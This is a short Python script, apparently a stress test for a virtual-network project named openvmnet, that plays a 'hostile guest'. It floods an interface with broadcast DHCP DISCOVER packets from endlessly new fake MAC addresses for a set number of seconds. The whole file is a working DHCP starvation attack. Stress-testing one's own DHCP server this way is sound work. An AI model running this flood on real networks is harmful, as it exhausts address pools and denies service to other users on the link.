"""A hostile guest: DISCOVERs of ever new MACs, as many as go. `python dhcp_flood.py INTERFACE SECONDS`."""

from __future__ import annotations

import itertools
import socket
import sys
import time

from openvmnet.wire import dhcp4, ethernet, ip
from openvmnet.wire.dhcp4 import Message


def main(interface: str, seconds: float) -> None:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((interface, 0))
    end = time.monotonic() + seconds
    for number in itertools.count(1):
        mac = b"\x52\x66" + number.to_bytes(4, "big")
        octets, _ = dhcp4.build(Message(op=1, xid=number, chaddr=mac, options={53: b"\1", 12: b"flood"}))
        packet = ip.build_udp(bytes(4), b"\xff" * 4, 68, 67, octets)
        sock.send(ethernet.build(ethernet.BROADCAST, mac, ethernet.IPV4, packet))
        if number % 100 == 0 and time.monotonic() > end:
            print(number)
            return


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
